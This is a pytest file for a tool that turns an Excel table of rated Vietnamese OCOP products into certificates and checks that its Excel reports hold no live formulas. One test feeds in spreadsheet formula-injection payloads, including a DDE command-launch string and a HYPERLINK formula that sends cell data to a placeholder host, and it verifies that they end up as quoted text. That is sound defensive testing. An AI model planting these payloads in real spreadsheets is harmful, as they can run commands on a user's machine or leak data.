"""The batch's reports as an officer opens them in Excel: .xlsx, typed cells, no formula from data."""
from __future__ import annotations

import zipfile
from datetime import datetime

from gcn_helpers import run_cli, write_issuer
from openpyxl import Workbook, load_workbook

INJECTION = "=cmd|' /C calc'!A0"


def clerk_results(path, rows, footer=True):
    wb = Workbook()
    ws = wb.active
    ws.title = "Kết quả"
    ws.append(["DANH SÁCH SẢN PHẨM ĐẠT 3 SAO, 4 SAO"])
    ws.append(["STT", "Tên sản phẩm", "Tên chủ thể", "Địa chỉ chủ thể", "Tổng điểm", "Phân hạng", "Người phụ trách"])
    for row in rows:
        ws.append(row)
    if footer:
        ws.append([f"Tổng cộng: {len(rows):02d} sản phẩm"])
        ws.append([None, "Người lập biểu", None, None, "Thủ trưởng đơn vị"])
        ws.append([None, "Nguyễn Thị Lan", None, None, "Trần Văn Hùng"])
    wb.save(path)
    return path


def sheet_rows(path):
    ws = load_workbook(path).active
    return [list(r) for r in ws.iter_rows(values_only=True)]


def no_formula_anywhere(path):
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name


def test_clean_table_with_footer_exits_0_and_says_what_it_skipped(tmp_path):
    table = clerk_results(tmp_path / "kq.xlsx", [
        [1, "Mật ong bạc hà", "HTX Ong mật Sơn Kim", "xã Sơn Kim 1", 78.5, "4 sao", "Lan"],
        [2, "Cam bù Hương Sơn", "HTX Cam Sơn Trường", "xã Sơn Trường", 66, "3 sao", "Lan"],
    ])
    out = tmp_path / "gcn"
    result = run_cli("certificates", str(table), "--issuer", str(write_issuer(tmp_path)), "-o", str(out),
                     "--register", str(tmp_path / "r.sqlite"))
    assert result.returncode == 0, result.stderr
    assert "Đã cấp 2 giấy chứng nhận" in result.stdout
    assert "Lưu ý: kq.xlsx, trang 'Kết quả': các cột không dùng (dữ liệu trong đó không được đưa vào văn bản): G «Người phụ trách»" in result.stderr
    assert "Lưu ý: kq.xlsx, trang 'Kết quả': bỏ qua 3 dòng cuối bảng (tổng cộng, chữ ký): dòng 5 «Tổng cộng: 02 sản phẩm»" in result.stderr
    assert not (out / "dong-bi-loai.xlsx").exists()
    rows = sheet_rows(out / "manifest.xlsx")
    assert rows[0][:8] == ["Số giấy chứng nhận", "Tên sản phẩm", "Chủ thể", "Hạng sao", "Điểm", "Ngày cấp",
                           "Có giá trị đến hết ngày", "Dòng trong bảng"]
    assert rows[1][:8] == ["001/2026/GCN-OCOP", "Mật ong bạc hà", "HTX Ong mật Sơn Kim", 4, 78.5,
                           datetime(2026, 10, 28), datetime(2029, 10, 28), 3]
    ws = load_workbook(out / "manifest.xlsx").active
    assert ws["F2"].number_format == "DD/MM/YYYY" and ws["E2"].number_format == "0.00"


def test_formulas_from_the_table_are_text_in_manifest_and_rejects(tmp_path):
    table = clerk_results(tmp_path / "kq.xlsx", [
        [1, INJECTION, "+HTX Ong mật", "@SUM(A1)", 78.5, "4 sao", None],
        [2, '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")', "-HTX Cam", "xã Sơn Trường", 140, "3 sao", None],
    ], footer=False)
    # openpyxl stores a text starting with "=" as a formula: make the clerk's cells text, as Excel would with a '.
    wb = load_workbook(table)
    for cell in ("B3", "B4"):
        wb.active[cell].data_type = "s"
    wb.save(table)
    out = tmp_path / "gcn"
    result = run_cli("certificates", str(table), "--issuer", str(write_issuer(tmp_path)), "-o", str(out),
                     "--register", str(tmp_path / "r.sqlite"))
    assert result.returncode == 3, result.stderr
    for report in (out / "manifest.xlsx", out / "dong-bi-loai.xlsx"):
        no_formula_anywhere(report)
    ws = load_workbook(out / "manifest.xlsx").active
    assert (ws["B2"].value, ws["B2"].data_type, ws["B2"].quotePrefix) == (INJECTION, "s", True)
    assert (ws["C2"].value, ws["C2"].quotePrefix) == ("+HTX Ong mật", True)
    rejects = sheet_rows(out / "dong-bi-loai.xlsx")
    assert rejects[0] == ["Dòng", "Lý do", "Tên sản phẩm", "Chủ thể", "Điểm", "Hạng sao"]
    assert rejects[1][0] == 4 and rejects[1][1] == "cột E «Tổng điểm»: điểm phải từ 0 đến 100 (đang là 140)"
    assert rejects[1][2].startswith("=HYPERLINK(") and rejects[1][3] == "-HTX Cam"
    rws = load_workbook(out / "dong-bi-loai.xlsx").active
    assert rws["C2"].data_type == "s" and rws["C2"].quotePrefix


def test_reports_are_not_rewritten_when_nothing_changed(tmp_path):
    table = clerk_results(tmp_path / "kq.xlsx", [[1, "Mật ong", "HTX Ong", "xã A", 78.5, "4 sao", None]])
    args = ["certificates", str(table), "--issuer", str(write_issuer(tmp_path)), "-o", str(tmp_path / "gcn"),
            "--register", str(tmp_path / "r.sqlite")]
    assert run_cli(*args).returncode == 0
    manifest = tmp_path / "gcn" / "manifest.xlsx"
    before = (manifest.stat().st_mtime_ns, manifest.read_bytes())
    assert run_cli(*args).returncode == 0
    assert (manifest.stat().st_mtime_ns, manifest.read_bytes()) == before
